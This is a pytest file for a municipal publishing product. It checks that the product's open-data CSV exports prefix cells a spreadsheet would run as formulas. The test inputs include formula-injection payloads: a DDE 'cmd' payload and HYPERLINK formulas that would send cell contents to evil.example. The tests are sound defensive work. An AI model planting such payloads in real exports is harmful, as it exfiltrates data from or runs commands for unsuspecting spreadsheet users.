"""No CSV the product writes holds a cell a spreadsheet would run as a formula."""

from decimal import Decimal
from imio.municipal.core.csv_safe import safe_cell
from imio.municipal.core.csv_safe import safe_row
from imio.municipal.demo.builders import do_transition
from imio.municipal.demo.builders import executory_act
from imio.municipal.publication.core.opendata import acts_csv
from imio.municipal.testing import require_libreoffice
from plone.app.textfield.value import RichTextValue
from plone.testing.zope import Browser

import csv
import io
import pytest
import transaction


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example","x")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "+32 81 24 60 00",
        "-",
    ],
)
def test_formula_text_is_prefixed(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-12.50", "-12,50", "+3", "-7", -12.5, 42, Decimal("-0.01"), "Namur", "", None]
)
def test_numbers_and_plain_text_are_data(value):
    assert safe_cell(value) == value


def test_a_row_and_the_open_data_writer():
    assert safe_row(["=1+1", "a", -1]) == ["'=1+1", "a", -1]
    rows = list(csv.reader(io.StringIO(acts_csv([{"title": "=1+1", "number": "-3"}]))))
    assert rows[1][1] == "'=1+1" and rows[1][2] == "-3"


def test_the_open_data_csv_of_a_municipality(
    functional, functional_portal, functional_app, timestamps
):
    require_libreoffice(functional)
    title = '=HYPERLINK("https://evil.example/?"&A1,"Détails")'
    decision = RichTextValue("<p>Article 1er.</p>", "text/html", "text/x-html-safe")
    act = executory_act(functional_portal, title=title, decision=decision)
    do_transition(act, "namur-secretaire", "publish")
    transaction.commit()
    browser = Browser(functional_app)
    browser.open(f"{functional_portal.absolute_url()}/namur/publications/@@opendata.csv")
    contents = browser.contents
    text = contents.decode("utf-8") if isinstance(contents, bytes) else contents
    titles = [row["title"] for row in csv.DictReader(io.StringIO(text))]
    assert "'" + title in titles
    assert not [t for t in titles if t.startswith(("=", "+", "-", "@"))]
